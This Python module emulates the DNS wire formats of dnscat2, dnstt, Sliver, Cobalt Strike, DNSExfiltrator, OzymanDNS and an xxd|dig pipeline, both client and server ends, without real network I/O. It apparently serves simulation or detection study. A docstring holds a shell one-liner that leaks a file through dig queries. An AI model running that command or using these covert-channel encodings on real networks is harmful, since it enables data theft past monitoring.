"""Emulated tunnel tools: the forms that their questions and answers have on the wire, both ends.

A tool is a class.  Its client() is a generator for one leg (one client's way to one zone): it
yields questions (labels before the zone, type) and is sent what came back, an Answer, or None
where nothing did or the question was refused.  Its answer() is the name server's end: it decodes
the labels of any question and says what records go back.  Neither does any input or output.

The file is what counts.  What goes up is counted at the server's end, what comes down at the
client's, by looking for what was decoded in the file itself (File.take): a byte counts once, and
only if it is right.

Every tool insists: what was refused is asked again, in the form in which the tool does that, and a
tool that gives up is begun anew.  Encryption is real only in its size: a key stream out of
SHAKE-256 stands for the tools' ciphers, random bytes for their keys and tags.  All from a seed.

Sources, each of public code or text: dnscat2 doc/protocol.md and client/controller; dnstt
dnstt-client/dns.go, KCP, smux and Noise's NK; Sliver 1.5 implant dnsclient.go and dns.proto;
Cobalt Strike 4 "DNS Beacon" in its user guide and the format strings of its default profile;
DNSExfiltrator 1.0 dnsExfiltrator.cs and .py; OzymanDNS 0.1 droute.pl.
"""

import base64
import binascii
import collections
import hashlib
import random
import struct
import zlib

NAME_CHARACTERS = 253   # of a name in text without the final dot
LABEL_CHARACTERS = 63


class Answer:
    """What came back: ${records} as (type number, record data, text)."""

    def __init__(self, records):
        self.records = records

    def strings(self):
        """All TXT strings, joined."""
        return b"".join(strings(data) for rrtype, data, _ in self.records if rrtype == 16)

    def address(self):
        """The first IPv4 address as four bytes, or none."""
        return next((bytes(data) for rrtype, data, _ in self.records if rrtype == 1), b"")


class File:
    """A file at the end where it is to arrive: what of it did."""

    def __init__(self, payload):
        self.payload, self.has = payload, bytearray(len(payload))

    def take(self, data):
        at = self.payload.find(data) if data else -1
        if at >= 0:
            self.has[at:at + len(data)] = b"\1" * len(data)
        return at >= 0

    @property
    def count(self):
        return sum(self.has)


class Leg:
    """One client's way to one zone, with its part of the file (upload) or its sink (download)."""

    def __init__(self, number, zone, seed, part=b"", sink=None):
        self.number, self.zone, self.part, self.sink = number, zone, part, sink
        self.want = 0               # bytes to fetch; 0: this is an upload
        self.rng = random.Random("%s-%d" % (seed, number))
        self.room = NAME_CHARACTERS - len(zone.rstrip(".")) - 1
        self.is_handshaken = False

    def ident(self):
        """16 bits that no other leg of this run has."""
        return self.rng.randrange(1 << 10) << 6 | self.number & 63

    def characters(self, label=LABEL_CHARACTERS, less=0):
        """How many characters fit before the zone, the dots between labels counted."""
        room = self.room - less
        return room - room // (label + 1)


# What the tools share -------------------------------------------------------------------

def strings(data):
    out, at = b"", 0
    while at < len(data):
        out += data[at + 1:at + 1 + data[at]]
        at += 1 + data[at]
    return out


def txt(data):
    """Record data of TXT, in strings of 255 bytes."""
    parts = [data[i:i + 255] for i in range(0, len(data), 255)] or [b""]
    return 16, b"".join(bytes([len(part)]) + part for part in parts)


def address(data=b"\0\0\0\0"):
    return 1, data


def pieces(data, size):
    return [data[i:i + size] for i in range(0, len(data), size)]


def labels_of(text, size=LABEL_CHARACTERS):
    return pieces(text.encode() if isinstance(text, str) else text, size)


def wire_name(labels, zone):
    """A name as record data, not compressed."""
    labels = list(labels) + [label.encode() for label in zone.rstrip(".").split(".")]
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def base32(data):
    return base64.b32encode(data).decode().rstrip("=").lower()


def from_base32(text):
    """The bytes that are whole in it, or None."""
    text = text[:len(text) - (len(text) % 8 in (1, 3, 6))]
    try:
        return base64.b32decode(text.upper() + b"=" * (-len(text) % 8))
    except binascii.Error:
        return None


def from_hex(text):
    try:
        return binascii.unhexlify(text)
    except binascii.Error:
        return None


def from_base64(text):
    try:
        return base64.b64decode(text, validate=True)
    except binascii.Error:
        return b""


def sealed(key, nonce, data):
    """Enciphers and deciphers."""
    stream = hashlib.shake_256(key + b"|" + nonce).digest(len(data))
    return bytes(a ^ b for a, b in zip(data, stream))


def insist(labels, rrtype):
    """Asks the same question until something comes."""
    while True:
        answer = yield labels, rrtype
        if answer is not None:
            return answer


class Tool:
    """${up}: what arrived at the server's end.  ${parts}: what it has to send, one for each session
    in the order in which they come."""

    name, ways = "", ("up", "down")

    def __init__(self, seed, up, parts):
        self.up, self.parts = up, list(parts)
        self.rng = random.Random("%s-server" % seed)
        self.sessions, self.key = {}, b"%s" % str(seed).encode()

    def client(self, leg):
        raise NotImplementedError

    def answer(self, zone, labels, rrtype):
        """Records as (type number, record data), or None: nothing of that name (no data)."""
        raise NotImplementedError

    def next_part(self):
        return self.parts.pop(0) if self.parts else b""


# xxd | dig ---------------------------------------------------------------------------------

class Dig(Tool):
    """Up: xxd -p -c 30 FILE | while read x; do dig $x.ZONE; done.  Down: dig TXT N.ZONE, base64.

    No session, so a client fetches every so-manieth piece; the first character tells whose."""

    name = "xxd | dig"
    LINE, PIECE = 30, 189

    def client(self, leg):
        for line in pieces(leg.part, self.LINE):
            yield from insist([line.hex().encode()], "A")
        for number in range(-(-leg.want // self.PIECE)):
            label = "%d-%d" % (leg.number, number) if leg.number else "%d" % number
            answer = yield from insist([label.encode()], "TXT")
            leg.sink.take(from_base64(answer.strings()))

    def answer(self, zone, labels, rrtype):
        if len(labels) != 1:
            return None
        if rrtype == 16:
            leg, _, number = labels[0].rpartition(b"-")
            if not number.isdigit() or not (leg or b"0").isdigit():
                return None
            part = self.parts[int(leg or b"0") % len(self.parts)] if self.parts else b""
            at = int(number) * self.PIECE
            return [txt(base64.b64encode(part[at:at + self.PIECE]))]
        data = from_hex(labels[0])
        if rrtype != 1 or data is None:
            return None
        self.up.take(data)
        return [address(b"\x7f\0\0\1")]


# dnscat2 -------------------------------------------------------------------------------------

class Dnscat2(Tool):
    """Hex in labels of 62: packet number, type, session, then (enciphered) the body.

    Key exchange in packets of type ENC (two rounds), SYN, then MSG both ways; TXT, CNAME and MX by
    turns of a die; each try again has a new packet number.
    """

    name = "dnscat2"
    SYN, MSG, ENC = 0, 1, 3
    LABEL, HEAD, SEAL, COUNTS = 62, 5, 8, 4   # SEAL: signature 6, nonce 2; COUNTS: seq, ack

    def client(self, leg):
        rng = leg.rng
        state = {"id": rng.randrange(65536), "session": leg.ident(), "nonce": 0}
        yield from self.talk(leg, state, self.ENC, struct.pack("!HH", 0, 0) + rng.randbytes(64))
        yield from self.talk(leg, state, self.ENC, struct.pack("!HH", 1, 0) + rng.randbytes(32))
        seq = rng.randrange(65536)
        reply = yield from self.talk(leg, state, self.SYN, struct.pack("!HH", seq, 1) + b"command\0")
        leg.is_handshaken = True
        ack = struct.unpack("!H", reply[:2])[0]
        most = leg.characters(self.LABEL) // 2 - self.HEAD - self.SEAL - self.COUNTS
        sent = came = 0
        while sent < len(leg.part) or came < leg.want:
            data = leg.part[sent:sent + most]
            body = struct.pack("!HH", (seq + sent) & 65535, (ack + came) & 65535) + data
            reply = yield from self.talk(leg, state, self.MSG, body)
            sent = sent + ((struct.unpack("!H", reply[2:4])[0] - seq - sent) & 65535)
            if len(reply) > 4 and leg.sink:
                leg.sink.take(reply[4:])
                came += len(reply) - 4

    def talk(self, leg, state, kind, body):
        """One packet until its answer; returns the answer's body."""
        while True:
            state["id"] = (state["id"] + 1) & 65535
            sent = body
            if kind != self.ENC:
                state["nonce"] = (state["nonce"] + 1) & 65535
                nonce = struct.pack("!H", state["nonce"])
                sent = leg.rng.randbytes(6) + nonce + sealed(self.key, nonce, body)
            packet = struct.pack("!HBH", state["id"], kind, state["session"]) + sent
            answer = yield labels_of(packet.hex(), self.LABEL), leg.rng.choice(("TXT", "CNAME", "MX"))
            reply = answer and self.unwrap(answer, leg.zone)
            if reply and reply[2] == kind:
                reply = reply[self.HEAD:]
                return reply if kind == self.ENC else sealed(self.key, reply[6:8], reply[8:])

    def unwrap(self, answer, zone):
        for rrtype, data, text in answer.records:
            if rrtype == 16:
                return from_hex(strings(data))
            if rrtype in (5, 15):
                return from_hex(text.split()[-1][:-len(zone) - 1].replace(".", "").encode())
        return None

    def answer(self, zone, labels, rrtype):
        packet = from_hex(b"".join(labels))
        if packet is None or len(packet) < self.HEAD or rrtype not in (16, 5, 15):
            return None
        _, kind, session = struct.unpack("!HBH", packet[:self.HEAD])
        body = packet[self.HEAD:]
        reply = self.reply(zone, session, kind, body, 110 if rrtype == 16 else 90)
        if reply is None:
            return None
        packet = struct.pack("!HBH", self.rng.randrange(65536), kind, session) + reply
        name = wire_name(labels_of(packet.hex(), self.LABEL), zone)
        return [txt(packet.hex().encode()) if rrtype == 16 else
                (5, name) if rrtype == 5 else (15, b"\0\x0a" + name)]

    def reply(self, zone, session, kind, body, most):
        if kind == self.ENC:
            return body[:4] + self.rng.randbytes(len(body) - 4) if len(body) in (68, 36) else None
        if len(body) < self.SEAL + 4 or kind not in (self.SYN, self.MSG):
            return None
        plain = sealed(self.key, body[6:8], body[8:])
        if kind == self.SYN:
            state = self.sessions.setdefault((zone, session), {"part": None})
            if state["part"] is None:
                state.update(part=self.next_part(), seq=self.rng.randrange(65536))
            state["theirs"] = struct.unpack("!H", plain[:2])[0]
            plain = struct.pack("!HH", state["seq"], 0)
        else:
            state = self.sessions.get((zone, session))
            if state is None:
                return None
            plain = self.message(state, plain, most)
        nonce = self.rng.randbytes(2)
        return self.rng.randbytes(6) + nonce + sealed(self.key, nonce, plain)

    def message(self, state, plain, most):
        seq, ack = struct.unpack("!HH", plain[:4])
        if seq == state["theirs"] and self.up.take(plain[4:]):
            state["theirs"] = (seq + len(plain) - 4) & 65535
        at = (ack - state["seq"]) & 65535
        return struct.pack("!HH", ack, state["theirs"]) + state["part"][at:at + most]


# dnstt ---------------------------------------------------------------------------------------

class Dnstt(Tool):
    """Base32 of client (8 bytes), padding, one KCP segment; TXT both ways, EDNS.

    In the segments' stream: Noise's two handshake messages (48 bytes), then records of cipher text
    with smux frames.  Where there is nothing to send, a poll: the client and eight random bytes.
    KCP sends again with new padding and time.
    """

    name = "dnstt"
    SEGMENT = struct.Struct("<IBBHIIII")
    PUSH, ACK, RECORD, DOWN = 81, 82, 400, 880

    def client(self, leg):
        rng = leg.rng
        own, conv = rng.randbytes(8), rng.getrandbits(32)
        most = leg.characters() * 5 // 8 - 8 - 4 - 1 - self.SEGMENT.size
        state = {"sn": 0, "una": 0, "stream": b"", "records": 0, "clock": rng.getrandbits(20)}
        yield from self.push(leg, own, conv, state, b"\0\x30" + rng.randbytes(48))
        while len(state["stream"]) < 50:
            yield from self.poll(leg, own, conv, state)
        leg.is_handshaken = True
        state["stream"] = state["stream"][50:]
        for segment in pieces(self.records(leg.part), most):
            yield from self.push(leg, own, conv, state, segment)
        if leg.want:
            yield from self.push(leg, own, conv, state, self.record(0, struct.pack("!BBHI", 1, 0, 0, 3)))
        came = 0
        while came < leg.want:
            yield from self.poll(leg, own, conv, state)
            came += self.receive(leg, state)

    def record(self, number, frame):
        body = sealed(self.key, b"up%d" % number, frame) + b"\0" * 16
        return struct.pack("!H", len(body)) + body

    def records(self, data):
        frames = [struct.pack("!BBHI", 1, 0, 0, 3)] if data else []
        frames += [struct.pack("!BBHI", 1, 2, len(part), 3) + part
                   for part in pieces(data, self.RECORD)]
        return b"".join(self.record(n, frame) for n, frame in enumerate(frames))

    def name_of(self, leg, own, packet):
        padding = 3 if packet else 8
        data = own + bytes([224 + padding]) + leg.rng.randbytes(padding)
        data += bytes([len(packet)]) + packet if packet else b""
        return labels_of(base32(data))

    def segment(self, conv, state, command, sn, data):
        state["clock"] += 7
        return self.SEGMENT.pack(conv, command, 0, 128, state["clock"], sn, state["una"],
                                 len(data)) + data

    def push(self, leg, own, conv, state, data):
        while True:
            packet = self.segment(conv, state, self.PUSH, state["sn"], data)
            answer = yield self.name_of(leg, own, packet), "TXT"
            if answer is not None and answer.records:
                self.read(answer, state)
                state["sn"] += 1
                return

    def poll(self, leg, own, conv, state):
        """Empty, or KCP's acknowledgement of what came."""
        packet = b""
        if state.pop("came", False):
            packet = self.segment(conv, state, self.ACK, state["una"] - 1, b"")
        answer = yield self.name_of(leg, own, packet), "TXT"
        if answer is not None:
            self.read(answer, state)

    def read(self, answer, state):
        data = answer.strings()
        while len(data) > 2:
            size = struct.unpack("!H", data[:2])[0]
            packet, data = data[2:2 + size], data[2 + size:]
            head = self.SEGMENT.unpack(packet[:self.SEGMENT.size])
            if head[1] == self.PUSH and head[5] == state["una"]:
                state["stream"] += packet[self.SEGMENT.size:]
                state["una"] += 1
                state["came"] = True

    def receive(self, leg, state):
        """Takes whole records off the stream; how many bytes of the file were in them."""
        came, stream = 0, state["stream"]
        while len(stream) > 2 and len(stream) >= 2 + struct.unpack("!H", stream[:2])[0]:
            size = struct.unpack("!H", stream[:2])[0]
            frame = sealed(self.key, b"down%d" % state["records"], stream[2:2 + size - 16])
            stream = stream[2 + size:]
            state["records"] += 1
            leg.sink.take(frame[8:])
            came += len(frame) - 8
        state["stream"] = stream
        return came

    def answer(self, zone, labels, rrtype):
        data = from_base32(b"".join(labels))
        if rrtype != 16 or data is None or len(data) < 12:
            return None
        state = self.sessions.setdefault((zone, data[:8]), {
            "sn": 0, "in": b"", "out": [], "records": 0, "una": 0, "open": False})
        packet = data[9 + data[8] - 224:] if data[8] >= 224 else b""
        if packet and len(packet) >= 1 + packet[0] >= 1 + self.SEGMENT.size:
            self.take(state, packet[1:1 + packet[0]])
        return [txt(self.reply(state))]

    def take(self, state, packet):
        head, data = self.SEGMENT.unpack(packet[:self.SEGMENT.size]), packet[self.SEGMENT.size:]
        state["conv"], state["una"] = head[0], max(state["una"], head[6])
        if head[1] != self.PUSH:
            return
        state["ack"] = head[5]
        if head[5] != state["sn"]:
            return
        state["sn"] += 1
        state["in"] += data
        if not state["open"] and len(state["in"]) >= 50:
            state["open"], state["in"] = True, state["in"][50:]
            state["out"] = pieces(b"\0\x30" + self.rng.randbytes(48) +
                                  self.down(self.next_part()), self.DOWN)
        while state["open"] and len(state["in"]) > 2:
            size = struct.unpack("!H", state["in"][:2])[0]
            if len(state["in"]) < 2 + size:
                break
            frame = sealed(self.key, b"up%d" % state["records"], state["in"][2:2 + size - 16])
            self.up.take(frame[8:])
            state["in"], state["records"] = state["in"][2 + size:], state["records"] + 1

    def down(self, part):
        out = b""
        for n, data in enumerate(pieces(part, self.RECORD)):
            frame = struct.pack("!BBHI", 1, 2, len(data), 3) + data
            body = sealed(self.key, b"down%d" % n, frame) + self.rng.randbytes(16)
            out += struct.pack("!H", len(body)) + body
        return out

    def reply(self, state):
        packets = []
        if "ack" in state:
            packets.append(self.SEGMENT.pack(state["conv"], self.ACK, 0, 128, 0, state.pop("ack"),
                                             state["sn"], 0))
        if state["una"] < len(state["out"]):
            data = state["out"][state["una"]]
            packets.append(self.SEGMENT.pack(state["conv"], self.PUSH, 0, 128, 0, state["una"],
                                             state["sn"], len(data)) + data)
        return b"".join(struct.pack("!H", len(p)) + p for p in packets)


# Sliver --------------------------------------------------------------------------------------

class Sliver(Tool):
    """A protobuf of type, number, range and data in base32 of an alphabet of its own.

    One-time password (A: the session's number comes back), a test of what the way carries (A: its
    CRC), the key (TXT); then data up by A, each answered with its CRC, or down by TXT: polls until
    there is a manifest, then ranges of 182 bytes in base64.
    """

    name = "Sliver"
    STANDARD, OWN = b"abcdefghijklmnopqrstuvwxyz234567", b"ab1c2d3e4f5g6h7j8k9m0npqrtuvwxyz"
    NOP, TOTP, INIT, POLL, MANIFEST, TO_IMPLANT, FROM_IMPLANT = 0, 1, 2, 3, 6, 7, 8
    RANGE, KEY_BYTES = 182, 248

    def encoded(self, **fields):
        raw = base32(self.message(**fields)).encode()
        return labels_of(raw.translate(bytes.maketrans(self.STANDARD, self.OWN)))

    @staticmethod
    def varint(number):
        out = bytearray()
        while number > 127:
            out.append(number & 127 | 128)
            number >>= 7
        return bytes(out) + bytes([number])

    def message(self, kind=0, number=0, start=0, stop=0, size=0, data=b""):
        out = b""
        for field, value in ((1, kind), (2, number), (3, start), (4, stop), (5, size)):
            if value:
                out += bytes([field << 3]) + self.varint(value)
        return out + (b"\x32" + self.varint(len(data)) + data if data else b"")

    def parse(self, raw):
        """Fields by number, or None."""
        fields, at = {}, 0

        def varint(at):
            value = shift = 0
            while True:
                value |= (raw[at] & 127) << shift
                at, shift = at + 1, shift + 7
                if raw[at - 1] < 128:
                    return value, at

        try:
            while at < len(raw):
                tag = raw[at]
                value, at = varint(at + 1)
                if tag & 7 == 2:
                    if at + value > len(raw):
                        return None
                    value, at = raw[at:at + value], at + value
                elif tag & 7 or tag >> 3 > 5 or not tag:
                    return None
                fields[tag >> 3] = value
        except IndexError:
            return None
        return fields

    def most(self, leg):
        return leg.characters() * 5 // 8 - 22   # what the other fields take at most

    def client(self, leg):
        rng = leg.rng
        code = rng.randrange(10 ** 7, 10 ** 8)
        answer = yield from insist(self.encoded(kind=self.TOTP, number=code), "A")
        session = struct.unpack("<I", answer.address())[0] & 0xFFFFFF
        yield from insist(self.encoded(number=session, data=rng.randbytes(self.most(leg))), "A")
        yield from self.send(leg, self.INIT, session, rng.randbytes(self.KEY_BYTES), "TXT")
        leg.is_handshaken = True
        if leg.part:
            data = rng.randbytes(40) + sealed(self.key, b"%d" % session, leg.part)
            yield from self.send(leg, self.FROM_IMPLANT, 1 << 24 | session, data, "A")
        while leg.want:
            answer = yield self.encoded(kind=self.POLL, number=session, data=rng.randbytes(8)), "TXT"
            manifest = answer and self.parse(from_base64(answer.strings()))
            if manifest and 5 in manifest:
                yield from self.fetch(leg, session, manifest)
                return

    def send(self, leg, kind, number, data, rrtype):
        at, size = 0, len(data)
        for part in pieces(data, self.most(leg)):
            yield from insist(self.encoded(kind=kind, number=number, start=at, size=size, data=part),
                              rrtype)
            at += len(part)

    def fetch(self, leg, session, manifest):
        whole = b""
        for at in range(0, manifest[5], self.RANGE):
            stop = min(at + self.RANGE, manifest[5])
            answer = yield from insist(self.encoded(kind=self.TO_IMPLANT, number=manifest[2], start=at,
                                                    stop=stop), "TXT")
            whole += self.parse(from_base64(answer.strings())).get(6, b"")
            leg.sink.take(sealed(self.key, b"%d" % session, whole))

    def answer(self, zone, labels, rrtype):
        text = b"".join(labels).translate(bytes.maketrans(self.OWN, self.STANDARD))
        raw = from_base32(text)
        m = self.parse(raw) if raw else None
        if m is None:
            return None
        kind, number = m.get(1, 0), m.get(2, 0)
        if kind == self.TOTP and 2 in m and rrtype == 1:
            session = self.rng.randrange(1 << 24)
            self.sessions[zone, session] = {"part": None, "up": b"", "seen": {}}
            return [address(struct.pack("<I", session | self.rng.randrange(1, 256) << 24))]
        state = self.sessions.get((zone, number & 0xFFFFFF))
        if state is None:
            return None
        return self.reply(state, kind, number, m, zlib.crc32(raw), rrtype)

    def reply(self, state, kind, number, m, crc, rrtype):
        out = b""
        if kind == self.FROM_IMPLANT:
            self.count(state, number & 0xFFFFFF, m)
        elif kind == self.POLL:
            if state["part"] is None:
                part = self.next_part()
                state["part"] = sealed(self.key, b"%d" % number, part)
            out = self.message(kind=self.MANIFEST, number=2 << 24 | number, size=len(state["part"]))
        elif kind == self.TO_IMPLANT:
            start = m.get(3, 0)
            out = self.message(start=start, data=(state["part"] or b"")[start:m.get(4, 0)])
        elif kind == self.INIT:
            out = self.rng.randbytes(44)
        return [txt(base64.b64encode(out)) if rrtype == 16 else address(struct.pack("<I", crc))]

    def count(self, state, session, m):
        """What arrived in a row from the start is deciphered; the first 40 bytes are the seal."""
        state["seen"][m.get(3, 0)] = m.get(6, b"")
        data = b""
        while len(data) in state["seen"]:
            data += state["seen"][len(data)]
        self.up.take(sealed(self.key, b"%d" % session, data[40:]))


# Cobalt Strike -------------------------------------------------------------------------------

class CobaltStrike(Tool):
    """A beacon: PREFIX.DATA.COUNTER RANDOM.ID, hex; idle 0.0.0.0.

    Asks ID.ZONE by A; 0.0.0.243 says that there is a task by TXT and that the metadata are wanted.
    These go by www (the length first, then 28, 56 or 84 bytes a question), what is found by post,
    tasks come by api: the length as an address, then base64 in TXT.
    """

    name = "Cobalt Strike"
    METADATA, BLOCK, TASK = 128, 1024, 186

    def client(self, leg):
        ident = b"%08x" % (leg.rng.getrandbits(31) | 1 << 30)
        answer = yield from insist([ident], "A")
        while answer.address() != b"\0\0\0\xf3":
            answer = yield [ident], "A"
        yield from self.send(leg, b"www", ident, leg.rng.randbytes(self.METADATA))
        for block in pieces(leg.part, self.BLOCK):
            nonce = leg.rng.randbytes(4)
            yield from self.send(leg, b"post", ident, nonce + sealed(self.key, nonce, block) +
                                 leg.rng.randbytes(16))
        came = 0
        while came < leg.want:
            came += yield from self.fetch(leg, ident)

    def send(self, leg, prefix, ident, data):
        tail = leg.rng.getrandbits(28)
        head = b"%x%07x" % (0, tail)
        yield from insist([prefix, b"1%x" % len(data), head, ident], "A")
        counter = 0
        while data:
            counter += 1
            words = min(3, -(-len(data) // 28))
            part, data = data[:28 * words], data[28 * words:]
            hexes = labels_of(part.hex(), 56)
            hexes[0] = b"%d" % len(hexes) + hexes[0]
            yield from insist([prefix] + hexes + [b"%x%07x" % (counter, tail), ident], "A")

    def fetch(self, leg, ident):
        """One task; how many bytes of the file it had."""
        tail = leg.rng.getrandbits(28)
        answer = yield from insist([b"api", b"%x%07x" % (0, tail), ident], "A")
        size = struct.unpack("!I", answer.address())[0]
        whole, counter = b"", 0
        while len(whole) < size:
            counter += 1
            answer = yield from insist([b"api", b"%x%07x" % (counter, tail), ident], "TXT")
            part = from_base64(answer.strings())
            if not part:
                break
            whole += part
            leg.sink.take(sealed(self.key, whole[:4], whole[4:]))
        return max(0, len(whole) - 4)

    def answer(self, zone, labels, rrtype):
        ident = labels[-1] if labels else b""
        if len(ident) != 8 or from_hex(ident) is None:
            return None
        state = self.sessions.setdefault((zone, ident), {"in": {}, "tasks": {}, "part": None})
        if len(labels) == 1:
            return [address(b"\0\0\0\xf3")] if rrtype == 1 else None
        if len(labels) >= 4 and labels[0] in (b"post", b"www") and rrtype == 1:
            self.take(state, labels)
            return [address()]
        if len(labels) == 3 and labels[0] == b"api":
            return self.task(state, labels[1], rrtype)
        return None

    def take(self, state, labels):
        """Pieces of one block have its random tail in common."""
        mark = labels[-2]
        block = state["in"].setdefault((labels[0], mark[-7:]), {})
        block[int(mark[:-7], 16)] = b"".join([labels[1][1:]] + labels[2:-2])
        data, number = b"", 1
        while number in block:
            data, number = data + (from_hex(block[number]) or b""), number + 1
        if labels[0] == b"post":
            plain = sealed(self.key, data[:4], data[4:])
            # The seal at the end of a block is none of the file.
            for cut in (0, 16):
                if self.up.take(plain[:len(plain) - cut]):
                    break

    def task(self, state, mark, rrtype):
        if state["part"] is None:
            state["part"] = self.next_part()
        tail, counter = mark[-7:], int(mark[:-7], 16)
        if tail not in state["tasks"]:
            part, state["part"] = state["part"][:4096], state["part"][4096:]
            nonce = self.rng.randbytes(4)
            state["tasks"][tail] = nonce + sealed(self.key, nonce, part) if part else b""
        data = state["tasks"][tail]
        if rrtype == 1:
            return [address(struct.pack("!I", len(data)))]
        at = (counter - 1) * self.TASK
        return [txt(base64.b64encode(data[at:at + self.TASK]))] if rrtype == 16 else None


# DNSExfiltrator ------------------------------------------------------------------------------

class DnsExfiltrator(Tool):
    """TXT: init.<base32 of NAME|PIECES>.base32, then N.<base32 in labels of 63>, answered with N.

    RC4 over a ZIP file, which random bytes do not make shorter.  Upload only.  A refusal ends the
    program; it is begun anew.
    """

    name, ways = "DNSExfiltrator", ("up",)

    def rc4(self, data):
        state, j = list(range(256)), 0
        key = self.key
        for i in range(256):
            j = (j + state[i] + key[i % len(key)]) & 255
            state[i], state[j] = state[j], state[i]
        out, i, j = bytearray(), 0, 0
        for byte in data:
            i = (i + 1) & 255
            j = (j + state[i]) & 255
            state[i], state[j] = state[j], state[i]
            out.append(byte ^ state[(state[i] + state[j]) & 255])
        return bytes(out)

    def client(self, leg):
        text = base32(self.rc4(leg.part))
        size = leg.characters(less=10)
        chunks = labels_of(text, size)
        init = base32(b"report-%d.xlsx|%d" % (leg.number, len(chunks))).encode()
        done = False
        while not done:
            answer = yield [b"init", init, b"base32"], "TXT"
            done = answer is not None and answer.strings() == b"OK"
            for number, chunk in enumerate(chunks if done else ()):
                labels = [b"%d" % number] + labels_of(chunk)
                answer = yield labels, "TXT"
                if answer is None:
                    done = False
                    break

    def answer(self, zone, labels, rrtype):
        if rrtype != 16 or len(labels) < 2:
            return None
        if labels[0] == b"init":
            return [txt(b"OK")] if len(labels) == 3 else None
        if not labels[0].isdigit():
            return None
        # Programs that send side by side are told apart by what goes on from what came before.
        chunk, number = b"".join(labels[1:]), int(labels[0])
        known = self.sessions.setdefault(zone, collections.defaultdict(list))
        for before in [b""] if number == 0 else known[number - 1]:
            data = from_base32(before + chunk)
            if data and self.up.take(self.rc4(data)) and before + chunk not in known[number]:
                known[number].append(before + chunk)
        return [txt(labels[0])]


# OzymanDNS -----------------------------------------------------------------------------------

class OzymanDns(Tool):
    """Up: 110 bytes in base32, labels of 60, NONCE-0.id-ID.up by A; between them polls.
    Down: SUM-NONCE.id-ID.down by TXT, base64."""

    name = "OzymanDNS"
    LINE, PIECE = 110, 165

    def client(self, leg):
        ident, summed, asked = b"id-%d" % leg.ident(), 0, 0
        for data in pieces(leg.part, self.LINE):
            labels = labels_of(base32(data), 60) + [b"%d-0" % leg.rng.randrange(65536), ident, b"up"]
            while True:
                if asked % 3 == 0:   # the pauses between polls grow, those between data do not
                    yield self.poll(leg, 0, ident), "TXT"
                asked += 1
                answer = yield labels, "A"
                if answer is not None and answer.records:
                    break
        while summed < leg.want:
            answer = yield self.poll(leg, summed, ident), "TXT"
            data = from_base64(answer.strings()) if answer else b""
            if leg.sink.take(data):
                summed += len(data)

    def poll(self, leg, summed, ident):
        return [b"%d-%d" % (summed, leg.rng.randrange(65536)), ident, b"down"]

    def answer(self, zone, labels, rrtype):
        if len(labels) < 3 or not labels[-2].startswith(b"id-"):
            return None
        if labels[-1] == b"up" and rrtype == 1 and len(labels) > 3:
            self.up.take(from_base32(b"".join(labels[:-3])) or b"")
            return [address(b"\0\0\0\0")]
        if labels[-1] != b"down" or rrtype != 16:
            return None
        summed = labels[0].partition(b"-")[0]
        state = self.sessions.setdefault((zone, labels[-2]), {"part": None})
        if state["part"] is None:
            state["part"] = self.next_part()
        at = int(summed) if summed.isdigit() else 0
        return [txt(base64.b64encode(state["part"][at:at + self.PIECE]))]


TOOLS = [Dnscat2, Dnstt, Sliver, CobaltStrike, DnsExfiltrator, OzymanDns, Dig]
